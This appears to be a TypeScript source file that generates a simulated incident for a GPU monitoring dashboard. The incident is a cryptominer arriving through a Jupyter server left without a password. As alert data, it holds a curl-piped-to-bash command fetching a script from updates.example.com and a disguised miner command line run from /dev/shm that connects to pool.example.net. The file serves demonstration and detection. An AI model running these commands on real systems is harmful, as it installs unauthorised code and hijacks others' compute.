import { HOUR_MS, MINUTE_MS } from '@gpu-observatory/domain-types';
import type { TimelineStep } from '../alerts/timeline-scripts.ts';
import type { ClaimHost, Story, Texts } from './story.ts';

const MINER = '/dev/shm/.x/kworkerd -a kawpow -o stratum+tcp://pool.example.net:14444 -u wallet.7';

const entry: TimelineStep[] = [
  [
    'login',
    'notebook server without a password opened from {ip}',
    '/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --no-browser',
  ],
  ['process_exec', 'terminal of the notebook server started', '/bin/bash -l'],
  [
    'process_exec',
    'script from a public address piped into a shell',
    'curl -fsSL http://updates.example.com/i.sh',
  ],
];
const install: TimelineStep[] = [
  ['file_open', '/dev/shm/.x/kworkerd opened for writing', 'tar xzf /dev/shm/.x.tgz'],
  ['file_chmod', '/dev/shm/.x/kworkerd made executable', 'chmod +x /dev/shm/.x/kworkerd'],
  ['process_exec', 'kworkerd started, parent exited'],
];
const mining: TimelineStep[] = [
  ['network_connect', 'TCP connection to {ip}:14444'],
  ['gpu_context', 'compute context created on all GPUs of {host}'],
  ['gpu_kernel_launch', 'proof-of-work kernels, 99 % utilization'],
];

/** Alerts by the minutes before the end of the history. */
const alerts: (Texts & { minutes: number })[] = [
  {
    minutes: 331,
    type: 'command_line_anomaly',
    severity: 'medium',
    title: 'A notebook server runs a download in a shell',
    description:
      'The notebook server on {host} started a shell that pipes a script from updates.example.com into bash.',
    command: 'bash -c "curl -fsSL http://updates.example.com/i.sh | bash"',
    steps: entry,
  },
  {
    minutes: 324,
    type: 'unknown_binary_exec',
    severity: 'high',
    title: 'Unknown binary runs from /dev/shm',
    description:
      '{process} on {host} was written to /dev/shm a moment before it was started. No other host has it.',
    command: MINER,
    steps: [...entry, ...install],
  },
  {
    minutes: 310,
    type: 'network_anomaly',
    severity: 'medium',
    title: 'Traffic to a mining pool',
    description:
      '{process} on {host} keeps a connection to pool.example.net:14444 that speaks the Stratum protocol.',
    command: MINER,
    steps: [...install, mining[0]!],
  },
  {
    minutes: 242,
    type: 'gpu_power',
    severity: 'medium',
    title: 'GPU power draw out of range',
    description: '{gpu} on {host} draws {watts} W for an hour at night. Its notebooks need a third of that.',
    command: MINER,
    steps: mining,
  },
  {
    minutes: 41,
    type: 'gpu_usage',
    severity: 'critical',
    title: 'Cryptocurrency miner on {host}',
    description:
      'Process {process} (pid {pid}) keeps all GPUs of {host} at 99 % with proof-of-work kernels, while the scheduler lists no job. It came from a notebook server without a password.',
    command: MINER,
    steps: [...entry, ...install, ...mining],
  },
  {
    minutes: 12,
    type: 'process_anomaly',
    severity: 'high',
    title: 'A killed process returned through cron',
    description:
      '{process} was killed on {host} and started again by cron within a minute. Remove its entry before you kill it.',
    command: MINER,
    steps: [
      ['process_exit', 'kworkerd ended with signal 9', MINER],
      ['process_exec', 'kworkerd started by cron'],
      mining[2]!,
    ],
  },
];

/** A miner that came through an open notebook server and uses all GPUs of a host. */
export function miner(now: number, claim: ClaimHost): Story | undefined {
  const host = claim(
    ({ model, workload }) => workload === 'interactive' && model.vendor === 'NVIDIA' && model.board !== null,
  );
  if (!host) return undefined;
  return {
    jobs: host.gpus.map((gpu) => ({
      gpu,
      start: now - 322 * MINUTE_MS,
      end: now + 4 * HOUR_MS,
      program: {
        name: 'kworkerd',
        description: '',
        usageCategory: '',
        utilizationPct: [99, 99],
        memoryFraction: [0.06, 0.06],
        powerIntensity: 0.94,
        isSteady: true,
      },
      utilizationPct: 99,
      memoryFraction: 0.06,
      pid: 48_213,
    })),
    alerts: alerts.map(({ minutes, ...texts }) => ({
      ...texts,
      at: now - minutes * MINUTE_MS,
      host,
      gpu: texts.type.startsWith('gpu_') ? (host.gpus[0] ?? null) : null,
    })),
  };
}
